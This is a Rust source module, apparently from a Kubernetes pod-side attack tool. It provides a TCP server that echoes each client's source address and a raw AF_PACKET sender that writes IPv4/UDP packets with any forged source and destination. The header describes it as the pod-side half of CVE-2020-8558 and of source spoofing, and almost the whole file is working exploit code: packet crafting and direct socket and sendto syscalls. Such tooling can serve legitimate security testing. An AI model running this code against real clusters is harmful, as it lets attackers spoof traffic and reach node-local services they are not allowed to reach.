//! Network commands: a TCP server that tells each client the address it came from, and a raw
//! IPv4/UDP sender over AF_PACKET, which writes any source and destination address onto the
//! wire (the pod-side half of CVE-2020-8558 and of source spoofing).

use std::io::{self, Read, Write};
use std::net::{Ipv4Addr, TcpListener};

use crate::attack::syscall6;

const SYS_SOCKET: usize = 41;
const SYS_SENDTO: usize = 44;
const SYS_CLOSE: usize = 3;
const AF_PACKET: usize = 17;
const SOCK_DGRAM: usize = 2;
const ETH_P_IP: u16 = 0x0800;

/// `serve ADDR:PORT`: prints `listening ADDR:PORT` once bound, then answers every connection
/// with `peer=IP` (its source address as seen here) until killed.
pub fn serve(out: &mut impl Write, addr: &str) -> io::Result<u8> {
    let listener = TcpListener::bind(addr)?;
    writeln!(out, "listening {}", listener.local_addr()?)?;
    out.flush()?;
    for conn in listener.incoming() {
        let Ok(mut c) = conn else { continue };
        let mut buf = [0u8; 16];
        let _ = c.read(&mut buf);
        let peer = c
            .peer_addr()
            .map(|a| a.ip().to_string())
            .unwrap_or_default();
        let _ = c.write_all(format!("peer={peer}").as_bytes());
    }
    Ok(0)
}

fn checksum(header: &[u8]) -> u16 {
    let mut sum: u32 = header
        .chunks(2)
        .map(|c| u32::from(u16::from_be_bytes([c[0], *c.get(1).unwrap_or(&0)])))
        .sum();
    while sum > 0xffff {
        sum = (sum & 0xffff) + (sum >> 16);
    }
    !(sum as u16)
}

/// An IPv4 header and a UDP datagram (checksum 0: none) carrying `data`.
fn udp_packet(src: Ipv4Addr, dst: Ipv4Addr, port: u16, data: &[u8]) -> Vec<u8> {
    let total = (20 + 8 + data.len()) as u16;
    let mut p = vec![0x45, 0];
    p.extend_from_slice(&total.to_be_bytes());
    p.extend_from_slice(&[0, 0, 0x40, 0, 64, 17, 0, 0]);
    p.extend_from_slice(&src.octets());
    p.extend_from_slice(&dst.octets());
    let sum = checksum(&p);
    p[10..12].copy_from_slice(&sum.to_be_bytes());
    p.extend_from_slice(&40000u16.to_be_bytes());
    p.extend_from_slice(&port.to_be_bytes());
    p.extend_from_slice(&(8 + data.len() as u16).to_be_bytes());
    p.extend_from_slice(&[0, 0]);
    p.extend_from_slice(data);
    p
}

/// `raw-udp IFACE SRC DST PORT DATA`: sends one UDP datagram from SRC to DST:PORT out of IFACE
/// in a broadcast frame, bypassing routing; prints `raw-udp sent` or the errno.
pub fn raw_udp(out: &mut impl Write, args: &[String]) -> io::Result<u8> {
    let bad = |what: &str| io::Error::new(io::ErrorKind::InvalidInput, what.to_string());
    let [iface, src, dst, port, data] = args else {
        return Err(bad("raw-udp IFACE SRC DST PORT DATA"));
    };
    let src: Ipv4Addr = src.parse().map_err(|_| bad("SRC"))?;
    let dst: Ipv4Addr = dst.parse().map_err(|_| bad("DST"))?;
    let port: u16 = port.parse().map_err(|_| bad("PORT"))?;
    let index: i32 = std::fs::read_to_string(format!("/sys/class/net/{iface}/ifindex"))?
        .trim()
        .parse()
        .map_err(|_| bad("ifindex"))?;
    let packet = udp_packet(src, dst, port, data.as_bytes());
    // struct sockaddr_ll: family, protocol (be), ifindex, hatype, pkttype, halen, addr[8].
    let mut sll = [0u8; 20];
    sll[0..2].copy_from_slice(&(AF_PACKET as u16).to_ne_bytes());
    sll[2..4].copy_from_slice(&ETH_P_IP.to_be_bytes());
    sll[4..8].copy_from_slice(&index.to_ne_bytes());
    sll[11] = 6;
    sll[12..18].copy_from_slice(&[0xff; 6]);
    // SAFETY: plain integers; the buffers live across the calls.
    let fd = unsafe {
        syscall6(
            SYS_SOCKET,
            [
                AF_PACKET,
                SOCK_DGRAM,
                usize::from(ETH_P_IP.to_be()),
                0,
                0,
                0,
            ],
        )
    };
    if fd < 0 {
        writeln!(out, "raw-udp errno={}", -fd)?;
        return Ok(1);
    }
    // SAFETY: as above.
    let rc = unsafe {
        syscall6(
            SYS_SENDTO,
            [
                fd as usize,
                packet.as_ptr() as usize,
                packet.len(),
                0,
                sll.as_ptr() as usize,
                sll.len(),
            ],
        )
    };
    // SAFETY: closes the fd opened above.
    unsafe { syscall6(SYS_CLOSE, [fd as usize, 0, 0, 0, 0, 0]) };
    if rc < 0 {
        writeln!(out, "raw-udp errno={}", -rc)?;
        return Ok(1);
    }
    writeln!(out, "raw-udp sent")?;
    Ok(0)
}
